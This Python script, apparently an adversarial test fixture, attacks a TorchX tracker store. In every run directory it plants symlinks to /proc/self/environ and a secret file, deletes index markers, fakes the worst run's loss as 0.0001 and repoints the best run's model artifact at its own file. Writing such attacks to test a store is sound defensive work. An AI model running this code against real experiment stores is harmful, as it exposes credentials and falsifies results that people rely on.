"""A hostile job of the same deployment, run after a sweep, through TorchX's own tracker API and the
store's files (which its tracker config names): in every run directory of the store, the sweep's and
its own, it plants links to ``/proc/self/environ`` and to a secret file where entries belong, removes
every index marker, writes a better loss into the worst grid point's run, and points the best grid
point's model at its own file.

usage: hostile_job.py <secret file> <own output directory>
"""

from __future__ import annotations

import os
import sys
from pathlib import Path

from torchx.tracker.api import AppRun
from torchx_airflow_tracker.store_layout import run_dir_name

secret, out = sys.argv[1], Path(sys.argv[2])
run = AppRun.run_from_env()
(tracker,) = run.backends  # the store the task configured: TorchX's TrackerBase
root = Path(tracker.root)
sweep = [r for r in tracker.run_ids() if r != run.id]
run.add_metadata(role="attacker")

for run_id in [*sweep, run.id]:
    run_dir = root / run_dir_name(run_id)
    for category in ("metadata", "artifacts", "sources"):
        (run_dir / category).mkdir(parents=True, exist_ok=True)
    for target, name in (("/proc/self/environ", "environ"), (secret, "secret")):
        os.symlink(target, run_dir / "sources" / run_dir_name(f"local_cwd://torchx/{name}"))
        os.symlink(target, run_dir / "metadata" / f"0000-{name}")
        os.symlink(target, run_dir / "artifacts" / f"0000-{name}")
for marker in root.iterdir():
    if marker.name.startswith((".i.", ".e.", ".d.")):
        marker.unlink()

losses = {r: float(tracker.metadata(r).get("loss", "nan")) for r in sweep}
worst, best = max(losses, key=losses.get), min(losses, key=losses.get)
tracker.add_metadata(worst, loss=0.0001)
out.mkdir(parents=True, exist_ok=True)
(out / "model.txt").write_text("the attacker's weights")
tracker.add_artifact(best, "model", str(out / "model.txt"), {"format": "txt"})
print(f"attacked {len(sweep)} runs: {worst} now claims loss 0.0001, {best}'s model is mine", flush=True)
